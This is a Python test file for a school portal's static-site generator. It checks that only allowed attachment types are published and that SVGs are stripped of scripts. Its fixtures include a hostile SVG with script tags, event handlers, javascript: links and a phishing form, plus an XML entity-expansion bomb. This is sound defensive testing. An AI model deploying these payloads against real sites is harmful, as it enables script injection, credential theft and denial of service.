"""Issue 26, item 3: files beside a post run no script on the portal's own origin.

An HTML or SVG attachment could load a `.js` attachment, which `script-src 'self'` allows;
on a host without the header policy (GitHub Pages) its inline script ran too. Now only an
allow-list of types is published, each checked by its first bytes, SVG images are cleaned,
and anything else is a `FILE:LINE` problem; the rest of the build is done.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from textwrap import dedent

import pytest
from playwright.sync_api import Browser, Dialog

from generator.build import build
from generator.config import load_site
from generator.errors import InputError
from tests.browser import chromium, serve_folder
from tests.conftest import copy_example

NOW = datetime(2026, 11, 23, 3, 0, tzinfo=UTC)
EVIL_SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 100 60" width="100" height="60" onload="alert('onload')">
  <title>Grafik</title>
  <script>alert('script'); document.title = 'RAN'</script>
  <script href="jahat.js"/>
  <foreignObject width="100" height="60"><div xmlns="http://www.w3.org/1999/xhtml">
    <form action="https://phish.example/"><input name="sandi"/></form>
    <img src="x" onerror="alert('foreign')"/></div></foreignObject>
  <a xlink:href="javascript:alert('link')"><rect width="50" height="30" fill="#2a9d8f"
     onclick="alert('click')"/></a>
  <image href="https://tracker.example/p.png" width="1" height="1"/>
  <set attributeName="href" to="javascript:alert('set')"/>
  <path d="M10 50 Q50 0 90 50" fill="none" stroke="url(#g)" style="stroke-width:2"/>
  <linearGradient id="g"><stop offset="0" stop-color="#000"/></linearGradient>
</svg>
"""


def write(site: Path, name: str, text: str) -> Path:
    path = site.parent / "content" / "sari" / name
    path.write_text(dedent(text), encoding="utf-8")
    return path


def post(attachments: str, body: str = "Isi.") -> str:
    return f"---\ntitle: Lampiran\ndate: 2026-11-21\nattachments: [{attachments}]\n---\n\n{body}\n"


@pytest.mark.parametrize(("name", "data", "message"), [
    ("lembar.html", b"<script>alert(1)</script>",
     "'lembar.html' tidak bisa diterbitkan: HTML bukan jenis berkas"),
    ("skrip.js", b"alert(1)", "'skrip.js' tidak bisa diterbitkan: JS bukan jenis berkas"),
    ("halaman.xhtml", b"<html/>", "'halaman.xhtml' tidak bisa diterbitkan: XHTML bukan"),
    ("program.exe", b"MZ", "'program.exe' tidak bisa diterbitkan: EXE bukan"),
    ("lkpd.pdf", b"<html><script>alert(1)</script>",
     "'lkpd.pdf' bukan berkas PDF sungguhan (byte awalnya milik jenis berkas lain)"),
    ("foto.png", b"GIF89a", "'foto.png' bukan berkas PNG sungguhan"),
    ("rusak.svg", b"<svg><g></svg>", "'rusak.svg' bukan gambar SVG yang bisa dibaca "
     "(mismatched tag: line 1, column 10)"),
    ("halaman.svg", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>'
     b"</html>", "'halaman.svg' bukan gambar SVG: elemen pertamanya <html>, bukan <svg>"),
    ("dalam.svg", b"<svg>" + b"<g>" * 5000 + b"</g>" * 5000 + b"</svg>",
     "elemen dalam 'dalam.svg' bersarang lebih dari 100 tingkat"),
    ("bom.svg", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
     + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">'
                % (n, p, p, p, p, p, p, p, p, p, p) for p, n in zip(b"abcdefgh", b"bcdefghi",
                                                                  strict=True))
     + b"]><svg><text>&i;</text></svg>",
     "'bom.svg' bukan gambar SVG yang bisa dibaca (limit on input amplification factor"),
])
def test_an_attachment_of_a_type_not_allowed_is_a_problem_and_the_rest_is_built(
        tiny_site: Path, tmp_path: Path, name: str, data: bytes, message: str) -> None:
    (tiny_site.parent / "content" / "sari" / name).write_bytes(data)
    write(tiny_site, "x.md", post(name))
    out = tmp_path / "public"

    report = build(tiny_site, out, offline=True, now=NOW)

    [problem] = report.problems
    assert str(problem).startswith(f"content/sari/x.md:4: {message}")
    assert not list(out.rglob(name))
    assert (out / "guru/sari/2026-11-18-persamaan-kuadrat/index.html").is_file()


def test_a_page_the_body_links_to_is_a_problem_on_its_line(tiny_site: Path,
                                                           tmp_path: Path) -> None:
    (tiny_site.parent / "content" / "sari" / "kuis.html").write_text(
        "<form action='https://phish.example/'><input name=sandi></form>")
    write(tiny_site, "x.md", "---\ntitle: Kuis\ndate: 2026-11-21\n---\n\nBaca dulu.\n\n"
                             "Kerjakan [kuisnya](kuis.html).\n")
    out = tmp_path / "public"
    report = build(tiny_site, out, offline=True, now=NOW)
    assert [str(p).split(" tidak bisa")[0] for p in report.problems] == [
        "content/sari/x.md:8: 'kuis.html'"]
    assert not list(out.rglob("kuis.html"))


def test_allowed_types_are_published_as_they_are(tiny_site: Path, tmp_path: Path) -> None:
    folder = tiny_site.parent / "content" / "sari"
    files = {"lkpd.pdf": b"%PDF-1.7\n", "nilai.xlsx": b"PK\x03\x04rest", "rekaman.mp3": b"ID3",
             "foto.JPG": b"\xff\xd8\xff\xe0", "soal.docx": b"PK\x03\x04", "data.csv": b"a,b\n"}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    write(tiny_site, "x.md", post(", ".join(files)))
    out = tmp_path / "public"
    report = build(tiny_site, out, offline=True, now=NOW)
    assert report.problems == ()
    for name, data in files.items():
        assert (out / "guru/sari/x" / name).read_bytes() == data


def test_svg_attachments_and_images_are_published_cleaned(tiny_site: Path,
                                                          tmp_path: Path) -> None:
    folder = tiny_site.parent / "content" / "sari"
    (folder / "grafik-jahat.svg").write_bytes(EVIL_SVG)
    (folder / "gambar-jahat.svg").write_bytes(EVIL_SVG)
    write(tiny_site, "x.md", post("grafik-jahat.svg", "![Grafik](gambar-jahat.svg)"))
    out = tmp_path / "public"

    report = build(tiny_site, out, offline=True, now=NOW)

    assert report.problems == ()
    for name in ("grafik-jahat.svg", "gambar-jahat.svg"):
        cleaned = (out / "guru/sari/x" / name).read_text(encoding="utf-8").lower()
        for banned in ("<script", "onload", "onclick", "onerror", "foreignobject", "<form",
                       "javascript:", "tracker.example", "<set", "jahat.js"):
            assert banned not in cleaned, (name, banned)
        assert '<path d="m10 50 q50 0 90 50" fill="none" stroke="url(#g)"' in cleaned
    page = (out / "guru/sari/x/index.html").read_text(encoding="utf-8")
    assert "grafik-jahat.svg" in page and 'src="gambar-jahat.svg"' in page


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.mark.browser
def test_an_svg_attachment_opened_on_its_own_runs_nothing(
        tiny_site: Path, tmp_path: Path, browser: Browser) -> None:
    """The file served over http with no header policy, as GitHub Pages serves it,
    opened directly, and clicked: no dialog, no script, no request elsewhere."""
    (tiny_site.parent / "content" / "sari" / "grafik-jahat.svg").write_bytes(EVIL_SVG)
    (tiny_site.parent / "content" / "sari" / "jahat.js").write_text("alert('js')")
    write(tiny_site, "x.md", post("grafik-jahat.svg"))
    out = tmp_path / "public"
    build(tiny_site, out, offline=True, now=NOW)
    dialogs: list[str] = []
    requests: list[str] = []
    context = browser.new_context()
    page = context.new_page()

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("request", lambda request: requests.append(request.url))
    with serve_folder(out) as base:
        url = base + "guru/sari/x/grafik-jahat.svg"
        page.goto(url)
        page.mouse.click(20, 10)
        page.wait_for_load_state("load")
        title = page.evaluate("document.title")
    context.close()
    assert dialogs == []
    assert title == "Grafik"
    assert [r for r in requests if r != url] == []


@pytest.mark.browser
def test_the_example_schools_drawings_still_show(tmp_path: Path, browser: Browser,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    site = copy_example(tmp_path / "sekolah")
    monkeypatch.chdir(site.parent)
    out = tmp_path / "public"
    report = build(site, out, offline=True, now=NOW)
    assert report.problems == ()
    drawings = sorted(out.glob("guru/*/*/*.svg"))
    assert len(drawings) == 6
    page = browser.new_page()
    with serve_folder(out) as base:
        page.goto(base + "guru/endang/2026-08-24-fungsi-invers/index.html")
        # The drawing loads lazily (issue 27): brought into view, then waited for (bounded
        # by Playwright's timeout), it must be a 400 x 400 image, not a broken one.
        drawing_img = page.locator('img[src="grafik-fungsi-invers.svg"]')
        drawing_img.scroll_into_view_if_needed()
        page.wait_for_function("""() => document.querySelector(
            'img[src="grafik-fungsi-invers.svg"]').complete""")
        size = drawing_img.evaluate("img => [img.naturalWidth, img.naturalHeight]")
        for drawing in drawings:
            page.goto(base + drawing.relative_to(out).as_posix())
            assert page.evaluate("document.documentElement.getBBox().width") > 100, drawing
    page.close()
    assert size == [400, 400]


def test_a_teachers_svg_photo_is_published_cleaned(tiny_site: Path, tmp_path: Path) -> None:
    (tiny_site.parent / "img" / "sari.svg").write_bytes(EVIL_SVG)
    out = tmp_path / "public"
    report = build(tiny_site, out, offline=True, now=NOW)
    assert report.problems == ()
    photo = (out / "guru/sari/foto.svg").read_text(encoding="utf-8")
    assert "<script" not in photo and "onload" not in photo and "<path" in photo


def test_a_photo_that_is_no_image_is_refused(tiny_site: Path) -> None:
    (tiny_site.parent / "img" / "sari.html").write_text("<script>alert(1)</script>")
    tiny_site.write_text(tiny_site.read_text().replace("img/sari.svg", "img/sari.html"))
    with pytest.raises(InputError) as raised:
        load_site(tiny_site)
    assert [str(p).split(" bukan jenis")[0] for p in raised.value.problems] == [
        "site.yml:18: 'img/sari.html' tidak bisa diterbitkan: HTML"]
